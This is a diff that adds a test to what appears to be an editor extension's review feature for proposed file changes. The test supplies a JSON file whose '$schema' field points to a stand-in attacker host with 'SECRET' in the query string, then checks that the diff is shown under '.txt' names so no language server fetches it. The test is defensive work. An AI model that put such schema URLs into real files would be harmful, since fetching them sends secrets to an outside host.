@@ -202,6 +202,13 @@ describe('a review in the editor', () => {
     assert.ok(left.path.endsWith('/a.ts') && right.path.endsWith('/a.ts'));
   });
 
+  it('shows to no language server a text that names what is to be fetched, before it is decided (B19)', async () => {
+    reviews.wait({ token: 't', turnId: 'x', files: [{ change: { kind: 'create', place: placeOf('/w/data.json'), after: '{"$schema":"https://evil.invalid/?d=SECRET"}' }, hunks: [] }] });
+    await run(showDiff, 't', 0);
+    const [left, right] = executed('vscode.diff') as [Uri, Uri];
+    assert.deepEqual([left, right].map(({ path }) => path.slice(path.lastIndexOf('/') + 1)), ['data.json.txt', 'data.json.txt']);
+  });
+
   it('opens several files together, and says of a move that there is nothing to compare', async () => {
     reviews.wait({ token: 't', turnId: 'x', files: [...reviewOf('t', { path, before, after }, { path: '/w/b.ts', before, after }).files, { change: { kind: 'move', place: placeOf('/w/c.ts'), to: placeOf('/w/d.ts') }, hunks: [] }, { change: { kind: 'create', place: placeOf('/w/new.ts'), after: 'n' }, hunks: [] }] });
     await run(showDiff, 't');
